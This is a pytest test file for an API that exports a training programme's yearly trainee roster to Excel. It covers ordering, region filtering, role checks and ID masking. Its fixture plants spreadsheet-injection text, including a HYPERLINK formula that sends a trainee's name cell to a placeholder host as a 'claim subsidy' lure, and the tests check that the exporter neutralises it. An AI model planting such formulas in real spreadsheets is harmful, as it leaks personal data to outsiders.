"""The programme year's roster (花名册) across every region and class: organizers only, streamed from
a cursor through the one Excel writer, read back cell for cell (stored hostile text included)."""

import io

import openpyxl
import pytest
from bson import ObjectId

from service.core.crypto import decrypt
from tests.conftest import bearer

HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&F2,"点击领取补贴")'
HEADERS = ["序号", "地区代码", "地区", "培训班", "开班日期", "姓名", "性别", "民族", "政治面貌", "身份证号码", "手机",
           "职务", "企业名称", "统一社会信用代码", "状态"]
REGION_NAMES = {"110000": "北京市", "440000": "广东省"}


def _sheet(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["花名册"]
    return [list(row) for row in workbook["花名册"].iter_rows()]


@pytest.fixture
def year_world(app, db, make_checkin_class):
    first = make_checkin_class(trainees=3, name="第一期 专精特新发展专题班")  # 110000, 110000, 440000
    second = make_checkin_class(trainees=2, name="第二期 数字化赋能专题班", regions=("440000",))
    year = db.classes.find_one({"_id": ObjectId(first.id)})["year"]
    # Rows as stored before text was checked: control characters, formula-like and error-like text.
    db.registrations.update_one({"_id": ObjectId(first.trainees[0].registration_id)}, {"$set": {
        "snapshot.name": "钱\u000b多多", "snapshot.position": "-总经理\x00", "snapshot.enterprise.name": HYPERLINK}})
    db.registrations.update_one({"_id": ObjectId(second.trainees[1].registration_id)}, {"$set": {
        "snapshot.enterprise.name": "#N/A", "snapshot.position": "@董事长\r\n兼总经理"}})
    # Not on any roster: a registration still waiting for review, and a counted one of another year.
    db.registrations.insert_one({"_id": ObjectId(), "class_id": ObjectId(first.id), "user_id": ObjectId(),
                                 "year": year, "region_code": "110000", "state": "submitted",
                                 "snapshot": {"name": "待审核的人"}})
    db.registrations.insert_one({"_id": ObjectId(), "class_id": ObjectId(), "user_id": ObjectId(),
                                 "year": year - 1, "region_code": "110000", "state": "confirmed",
                                 "snapshot": {"name": "去年的学员"}})
    return {"year": year, "classes": [first, second]}


def _expected(db, year_world, *, full=False, region_code=None):
    """The rows the file must hold, built from the stored documents (region, class, submission order)."""
    classes = {c["_id"]: c for c in db.classes.find({"_id": {"$in": [ObjectId(k.id) for k in year_world["classes"]]}})}
    query = {"class_id": {"$in": list(classes)}, "state": "confirmed"}
    if region_code:
        query["region_code"] = region_code
    docs = sorted(db.registrations.find(query), key=lambda r: (r["region_code"], r["class_id"], r["submitted_at"]))
    rows = []
    for number, r in enumerate(docs, start=1):
        p, klass = r["snapshot"], classes[r["class_id"]]
        rows.append([number, r["region_code"], REGION_NAMES[r["region_code"]], klass["name"], klass["start_date"],
                     p["name"], {"male": "男", "female": "女"}[p["gender"]], p["ethnicity"], p["political_status"],
                     decrypt(p["id_number_enc"]) if full else p["id_number_masked"], p["mobile_masked"],
                     p["position"], p["enterprise"]["name"], p["enterprise"]["credit_code"], "已确认参训"])
    return rows


def _as_written(value):
    """What the one Excel writer makes of stored text: XML-illegal characters dropped, CR as LF."""
    if not isinstance(value, str):
        return value
    return value.replace("\x0b", "").replace("\x00", "").replace("\r\n", "\n")


def test_organizers_get_every_region_and_class_of_the_year_as_stored(client, db, year_world, admin_token):
    response = client.get(f"/api/v1/years/{year_world['year']}/roster.xlsx", headers=bearer(admin_token))
    rows = _sheet(response)
    assert [c.value for c in rows[0]] == HEADERS
    expected = [[_as_written(v) for v in row] for row in _expected(db, year_world)]
    assert [[c.value for c in row] for row in rows[1:]] == expected
    assert len(expected) == 5 and [r[1] for r in expected] == ["110000", "110000", "440000", "440000", "440000"]
    cells = [c for row in rows for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)  # no formula, no error value
    hostile = {c.value: c for c in cells if c.value in (HYPERLINK, "-总经理", "#N/A", "@董事长\n兼总经理", "钱多多")}
    assert set(hostile) == {HYPERLINK, "-总经理", "#N/A", "@董事长\n兼总经理", "钱多多"}
    assert all(hostile[v].quotePrefix for v in (HYPERLINK, "-总经理", "@董事长\n兼总经理"))
    assert hostile["#N/A"].data_type == "s" and not hostile["钱多多"].quotePrefix
    assert "待审核的人" not in str(expected) and "去年的学员" not in str(expected)
    disposition = response.headers["Content-Disposition"]
    assert f'filename=roster-{year_world["year"]}.xlsx' in disposition and "filename*=UTF-8''" in disposition
    assert response.headers["Cache-Control"] == "no-store"


def test_one_region_and_full_numbers_for_certificates(app, client, db, year_world, admin_token):
    year = year_world["year"]
    rows = _sheet(client.get(f"/api/v1/years/{year}/roster.xlsx?region_code=440000&for_certificates=true",
                             headers=bearer(admin_token)))
    with app.app_context():  # the data key
        expected = _expected(db, year_world, full=True, region_code="440000")
    assert [[c.value for c in row] for row in rows[1:]] == [[_as_written(v) for v in row] for row in expected]
    assert len(expected) == 3 and all(len(row[9]) == 18 and "*" not in row[9] for row in expected)
    masked = _sheet(client.get(f"/api/v1/years/{year}/roster.xlsx", headers=bearer(admin_token)))
    assert all("********" in row[9].value for row in masked[1:])


def test_a_year_without_registrations_is_a_header_only_sheet(client, admin_token):
    rows = _sheet(client.get("/api/v1/years/2100/roster.xlsx", headers=bearer(admin_token)))
    assert [[c.value for c in row] for row in rows] == [HEADERS]


@pytest.mark.parametrize("who", ["province", "supervisor", "trainee"])
def test_only_organizers_may_export_the_year_roster(client, year_world, make_staff, who):
    klass = year_world["classes"][0]
    token = {"province": make_staff("province_staff", region_code="110000"), "supervisor": klass.supervisor,
             "trainee": klass.trainees[0].token}[who]
    for query in ("", "?region_code=110000"):
        response = client.get(f"/api/v1/years/{year_world['year']}/roster.xlsx{query}", headers=bearer(token))
        assert response.status_code == 403 and response.json["code"] == "ROLE_REQUIRED"


def test_the_year_roster_needs_a_login_and_valid_arguments(client, year_world, admin_token):
    assert client.get(f"/api/v1/years/{year_world['year']}/roster.xlsx").status_code == 401
    bad = client.get(f"/api/v1/years/{year_world['year']}/roster.xlsx?region_code=11", headers=bearer(admin_token))
    assert bad.status_code == 422 and bad.json["code"] == "VALIDATION_ERROR"
    out_of_range = client.get("/api/v1/years/1999/roster.xlsx", headers=bearer(admin_token))
    assert out_of_range.status_code == 422 and out_of_range.json["errors"] == {"year": ["年度应在 2015 到 2100 之间"]}


def test_rows_come_in_the_order_mongodb_sorts_them_with_no_submission_time_and_ties(client, db, year_world,
                                                                                   admin_token):
    """The roster puts a region's rows in order itself (not the server): region, class, submission
    (none first), then _id, as MongoDB's sort on the same keys."""
    import datetime as dt

    from service.registrations.repository import ROSTER_ORDER

    first = year_world["classes"][0]
    same_moment = dt.datetime(2026, 3, 1, 8, 0, tzinfo=dt.timezone.utc)
    extra = [({"_id": ObjectId("f" * 24)}, "同时提交乙"), ({"_id": ObjectId("0" * 23 + "1")}, "同时提交甲"),
             ({"_id": ObjectId()}, "未记提交时间")]
    for fields, name in extra:
        submitted = {} if name == "未记提交时间" else {"submitted_at": same_moment}
        db.registrations.insert_one({**fields, "class_id": ObjectId(first.id), "user_id": ObjectId(),
                                     "year": year_world["year"], "region_code": "110000", "state": "admitted",
                                     "snapshot": {"name": name}, **submitted})
    response = client.get(f"/api/v1/years/{year_world['year']}/roster.xlsx", headers=bearer(admin_token))
    names = [row[5].value for row in _sheet(response)[1:]]
    by_mongodb = [_as_written(r["snapshot"]["name"]) for r in db.registrations.find(
        {"year": year_world["year"], "state": {"$in": ["recommended", "admitted", "waitlisted", "confirmed"]}},
        {"snapshot.name": 1}).sort(ROSTER_ORDER)]
    assert names == by_mongodb and len(names) == 8
    assert names.index("未记提交时间") < names.index("同时提交甲") < names.index("同时提交乙")
